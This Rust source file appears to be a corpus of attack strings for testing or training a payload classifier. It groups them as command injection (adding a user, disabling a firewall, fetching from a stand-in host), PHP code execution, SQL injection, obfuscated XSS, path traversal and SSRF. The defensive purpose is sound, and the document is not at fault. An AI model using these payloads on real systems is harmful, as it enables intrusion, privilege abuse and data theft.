//! Attacks that are one because they are the whole of a value, and variants that hide what they are.

use threats::payload::Class;

pub const WHOLE: &[(Class, &[&str])] = &[
    (
        Class::Command,
        &[
            "cd /;cd etc;fold passwd",
            "garb=adduse[r];$garb x",
            "pi>()ng 127.0.0.1",
            "!-1",
            ">/tmp/x.sh",
            "`true`",
            "visudo",
            "pip install something",
            "net user x y /add",
            "netsh firewall set opmode disable",
            r"if exist c:\boot.ini echo x",
            "for /f %i in (a.txt) do echo %i",
            "/b[i]n/l?",
            "; Get-ChildItem -Path x",
            "|iwr -Uri http://x.example/a",
            "\" ping.exe -n 31 127.0.0.1",
        ],
    ),
    (
        Class::Code,
        &[
            "checkdate()",
            "range/**/(1)",
            "symlink//c\n()",
            "gethostbyname(",
            "$f('id')",
            "$a['b']($c)",
            "(system)(ls)",
            "\"system\"('ls')",
            "('sys'.'tem')('ls')",
            "allow_url_include=1",
            "$_S ERVER['REQUEST_URI']",
            "function() { return 1 }",
            "new Function (",
            "java.evil.Runtime",
        ],
    ),
    (
        Class::Sqli,
        &[
            "1 - ORD('A')",
            "' or abc!",
            "'x'!='y",
            "replace(",
            "xor 5-",
            "A' << 'B",
            "||",
            "-1 union select u.* from users u/*",
        ],
    ),
    (
        Class::Xss,
        &[
            "(alert)(1)",
            "'formaction=",
            "\" in x=",
            "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
            "[].map(alert)",
            "-moz-binding:url(http://x.example/a.xml)",
        ],
    ),
    (
        Class::Traversal,
        &["/etc/pure-ftpd.conf", "///{file}", "-/etc/x.conf"],
    ),
    (
        Class::Ssrf,
        &["http://203.0.113.7/x.txt?", "http://x.example/shell.php?"],
    ),
];
